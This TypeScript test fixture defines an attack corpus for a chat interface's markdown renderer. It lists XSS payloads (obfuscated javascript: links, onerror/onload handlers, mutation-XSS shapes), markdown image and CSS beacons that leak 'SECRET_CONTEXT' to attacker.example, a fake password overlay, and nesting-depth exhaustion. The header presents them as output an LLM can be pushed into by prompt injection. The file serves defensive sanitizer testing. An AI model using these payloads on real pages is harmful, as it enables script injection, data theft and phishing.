/**
 * Hostile markdown / HTML an LLM can be talked into emitting (prompt injection in a retrieved
 * document, a poisoned web page, a user pasting a payload). Every payload that would run code
 * calls `__xss()`, so a test can install a canary `window.__xss` and prove nothing ran.
 *
 * Shared corpus: `<parley-markdown>`'s own test streams each through the element; the end-to-end
 * hardening suite streams them through `<parley-chat>`. `chunks`, when present, is a split that
 * matters (a payload cut exactly where a naive renderer would go live); tests add random splits.
 */
export interface AttackVector {
  name: string;
  payload: string;
  chunks?: string[];
}

const exfil = 'https://attacker.example';

export const attackVectors: AttackVector[] = [
  // Dangerous link schemes, and the tricks that hide them from naive checks.
  { name: 'link: javascript scheme', payload: '[click me](javascript:__xss())' },
  { name: 'link: mixed-case scheme', payload: '[click me](JaVaScRiPt:__xss())' },
  { name: 'link: leading spaces', payload: '[click me](   javascript:__xss())' },
  { name: 'link: literal tab inside scheme', payload: '[click me](java\tscript:__xss())' },
  { name: 'link: tab entity inside scheme', payload: '[click me](java&#x09;script:__xss())' },
  { name: 'link: newline entity inside scheme', payload: '[click me](jav&#x0A;ascript:__xss())' },
  { name: 'link: &Tab; named entity', payload: '[click me](java&Tab;script:__xss())' },
  { name: 'link: decimal entity first letter', payload: '[click me](&#106;avascript:__xss())' },
  { name: 'link: hex entities and &#x3A;', payload: '[click me](&#x6A;avascript&#x3A;__xss())' },
  { name: 'link: &colon; entity', payload: '[click me](javascript&colon;__xss())' },
  { name: 'link: zero-padded entities without semicolons', payload: '[click me](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058__xss())' },
  { name: 'link: control character before scheme', payload: '[click me](\u0001javascript:__xss())' },
  { name: 'link: javascript with // comment and %0a', payload: '[click me](javascript://%0a__xss())' },
  { name: 'link: angle-bracket destination', payload: '[click me](<javascript:__xss()>)' },
  { name: 'link: with title', payload: '[click me](javascript:__xss() "harmless title")' },
  { name: 'link: vbscript', payload: '[click me](vbscript:msgbox(1))' },
  { name: 'link: data text/html base64', payload: '[click me](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoKTwvc2NyaXB0Pg==)' },
  { name: 'link: data text/html inline', payload: '[click me](data:text/html,<script>parent.__xss()</script>)' },
  { name: 'link: file scheme', payload: '[passwords](file:///etc/passwd)' },
  { name: 'link: blob scheme', payload: '[click me](blob:https://attacker.example/0f0f0f0f)' },
  { name: 'link: percent-encoded scheme', payload: '[click me](%6A%61vascript:__xss())' },
  { name: 'link: attribute breakout in destination', payload: '[click me](https://example.com"onmouseover="__xss())' },
  { name: 'link: attribute breakout in title', payload: '[click me](https://example.com "x\\" onmouseover=\\"__xss()")' },
  { name: 'reference link: javascript definition', payload: 'Read [the docs][docs].\n\n[docs]: javascript:__xss()' },
  { name: 'reference link: shortcut form, entity-encoded', payload: 'Read [docs].\n\n[docs]: &#x6A;avascript:__xss() "t"' },
  { name: 'reference link: definition before use', payload: '[x]: JAVASCRIPT:__xss()\n\nSee [x] and [text][x].' },
  { name: 'autolink: javascript in angle brackets', payload: '<javascript:__xss()>' },
  { name: 'autolink: GFM www with script-like path', payload: 'www.attacker.example/javascript:__xss()' },
  { name: 'autolink: URL followed by raw tag', payload: `${exfil}/<img src=x onerror=__xss()>` },
  { name: 'link inside image inside link', payload: `[![logo](${exfil}/logo.png)](javascript:__xss())` },
  { name: 'links in table, list, quote and heading', payload: '# [h](javascript:__xss())\n\n- [li](javascript:__xss())\n\n> [q](javascript:__xss())\n\n| a |\n|---|\n| [td](javascript:__xss()) |' },
  { name: 'footnote-style definition with javascript', payload: 'Claim [^1].\n\n[^1]: javascript:__xss()' },

  // Raw HTML: must show as text.
  { name: 'html: script element', payload: '<script>__xss()</script>' },
  { name: 'html: img onerror', payload: '<img src=x onerror=__xss()>' },
  { name: 'html: inline img onerror in a sentence', payload: 'Here is the chart <img src=x onerror="__xss()"> as requested.' },
  { name: 'html: svg onload', payload: '<svg onload=__xss()>' },
  { name: 'html: svg script', payload: '<svg><script>__xss()</script></svg>' },
  { name: 'html: svg xlink:href javascript', payload: '<svg><a xlink:href="javascript:__xss()"><text y="20">click</text></a></svg>' },
  { name: 'html: svg foreignObject iframe', payload: '<svg><foreignObject><iframe srcdoc="<script>parent.__xss()</script>"></iframe></foreignObject></svg>' },
  { name: 'html: MathML href', payload: '<math href="javascript:__xss()"><mi>click</mi></math>' },
  { name: 'html: iframe javascript src', payload: '<iframe src="javascript:parent.__xss()"></iframe>' },
  { name: 'html: iframe srcdoc', payload: '<iframe srcdoc="<script>parent.__xss()</script>"></iframe>' },
  { name: 'html: object data', payload: '<object data="javascript:__xss()"></object>' },
  { name: 'html: embed src', payload: '<embed src="javascript:__xss()">' },
  { name: 'html: form action with button', payload: '<form action="javascript:__xss()"><button>Confirm order</button></form>' },
  { name: 'html: input autofocus onfocus', payload: '<input autofocus onfocus=__xss()>' },
  { name: 'html: details ontoggle', payload: '<details open ontoggle=__xss()><summary>x</summary></details>' },
  { name: 'html: anchor with javascript href', payload: '<a href="javascript:__xss()">open invoice</a>' },
  { name: 'html: anchor with ping to attacker', payload: `<a href="https://example.com" ping="${exfil}/ping">x</a>` },
  { name: 'html: fake citation marker button', payload: 'See <button class="parley-citation-marker" onclick="__xss()">1</button>' },
  { name: 'html: meta refresh', payload: '<meta http-equiv="refresh" content="0;url=javascript:__xss()">' },
  { name: 'html: base href hijack', payload: '<base href="javascript:__xss()//">\n\n[relative](x)' },
  { name: 'html: template with script', payload: '<template><script>__xss()</script></template>' },
  { name: 'html: body onload', payload: '<body onload=__xss()>' },
  { name: 'html: marquee onstart', payload: '<marquee onstart=__xss()>x</marquee>' },
  { name: 'html: entity-encoded tags stay text', payload: '&lt;script&gt;__xss()&lt;/script&gt; &#60;img src=x onerror=__xss()&#62;' },
  { name: 'html: in heading', payload: '# <img src=x onerror=__xss()>' },
  { name: 'html: in table cell', payload: '| a |\n|---|\n| <img src=x onerror=__xss()> |' },
  { name: 'html: in list and quote', payload: '- <svg onload=__xss()>\n\n> <iframe src=javascript:__xss()>' },

  // Mutation-XSS shapes (parser differentials that beat sanitizers).
  { name: 'mxss: math mtext table mglyph style', payload: '<math><mtext><table><mglyph><style><img src=x onerror=__xss()>' },
  { name: 'mxss: svg p style', payload: '<svg></p><style><a id="</style><img src=1 onerror=__xss()>">' },
  { name: 'mxss: form math mglyph', payload: '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=__xss() src>">' },
  { name: 'mxss: comment breakout', payload: '<!--><img src=x onerror=__xss()>-->' },
  { name: 'mxss: bogus comment <!', payload: '<! foo="><img src=x onerror=__xss()>">' },
  { name: 'mxss: processing instruction', payload: '<?xml foo="><img src=x onerror=__xss()>">' },
  { name: 'rawtext: noscript', payload: '<noscript><p title="</noscript><img src=x onerror=__xss()>">' },
  { name: 'rawtext: xmp', payload: '<xmp></xmp><img src=x onerror=__xss()>' },
  { name: 'rawtext: noembed', payload: '<noembed><img title="</noembed><img src=x onerror=__xss()>"></noembed>' },
  { name: 'rawtext: noframes', payload: '<noframes><style></noframes><img src=x onerror=__xss()>' },
  { name: 'rawtext: iframe', payload: '<iframe><img title="</iframe><img src=x onerror=__xss()>"></iframe>' },
  { name: 'rawtext: textarea', payload: '<textarea><img title="</textarea><img src=x onerror=__xss()>">' },

  // CSS: exfiltration and overlay phishing.
  { name: 'css: style attribute url()', payload: `<div style="background:url(${exfil}/leak?d=secret)">x</div>` },
  { name: 'css: style element @import and url()', payload: `<style>@import '${exfil}/x.css'; *{background:url(${exfil}/y)}</style>` },
  { name: 'css: link stylesheet', payload: `<link rel="stylesheet" href="${exfil}/x.css">` },
  { name: 'css: full-page overlay', payload: '<span style="position:fixed;inset:0;background:white">Session expired, enter password</span>' },

  // Images: every form must cause zero requests unless the host is allowed.
  { name: 'image: markdown image with data in query', payload: `![status](${exfil}/leak.png?data=SECRET_CONTEXT)` },
  { name: 'image: reference image', payload: `![chart][c]\n\n[c]: ${exfil}/ref.png` },
  { name: 'image: protocol-relative', payload: '![x](//attacker.example/proto-relative.png)' },
  { name: 'image: javascript scheme', payload: '![x](javascript:__xss())' },
  { name: 'image: data svg with script', payload: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Il9feHNzKCkiLz4=)' },
  { name: 'image: angle-bracket destination with space', payload: `![x](<${exfil}/x y.png>)` },
  { name: 'image: raw img srcset', payload: `<img srcset="${exfil}/a.png 1x, ${exfil}/b.png 2x">` },
  { name: 'image: picture source', payload: `<picture><source srcset="${exfil}/p.png"><img src="${exfil}/q.png"></picture>` },
  { name: 'image: video poster', payload: `<video poster="${exfil}/v.png"></video>` },
  { name: 'image: input type image', payload: `<input type="image" src="${exfil}/i.png">` },

  // Code must show HTML as text.
  { name: 'code: fenced html', payload: '```html\n<script>__xss()</script>\n<img src=x onerror=__xss()>\n```' },
  { name: 'code: fence language breakout', payload: '```"><img src=x onerror=__xss()>\ncode\n```' },
  { name: 'code: unclosed fence', payload: '```\n<img src=x onerror=__xss()>' },
  { name: 'code: inline code', payload: 'Use `<img src=x onerror=__xss()>` carefully.' },
  { name: 'code: indented block', payload: '    <script>__xss()</script>' },

  // Payloads split where a naive streaming renderer would render a half-open tag.
  { name: 'split: img tag cut before onerror', payload: '<img src=x onerror=__xss()>', chunks: ['<img src=x ', 'onerror=', '__xss()>'] },
  { name: 'split: link scheme cut mid-word', payload: '[click](javascript:__xss())', chunks: ['[click](java', 'script:', '__xss())'] },
  { name: 'split: script tag cut mid-name', payload: 'a <scr' + 'ipt>__xss()</script> b', chunks: ['a <scr', 'ipt>__xss()</scr', 'ipt> b'] },
  { name: 'split: fence closing arrives late', payload: '```\n<svg onload=__xss()>\n```\n\n<svg onload=__xss()>', chunks: ['```\n<svg onload=', '__xss()>\n``', '`\n\n<svg onload=__xss()>'] },
  { name: 'split: reference definition after its use', payload: `See [docs] and ![i][img]\n\nmore text\n\n[docs]: javascript:__xss()\n[img]: ${exfil}/late.png`, chunks: ['See [docs] and ![i][img]\n\nmore text\n\n', '[docs]: java', 'script:__xss()\n[img]: https://attacker', '.example/late.png'] },

  // Resource exhaustion shapes.
  { name: 'depth: 200 nested block quotes', payload: `${'>'.repeat(200)} deep` },
  { name: 'depth: 30 nested lists with a link', payload: `${Array.from({ length: 30 }, (_, i) => `${'  '.repeat(i)}- [x](javascript:__xss())`).join('\n')}` },
  { name: 'depth: 500 nested emphasis markers', payload: `${'*'.repeat(500)}x${'*'.repeat(500)}` },
];
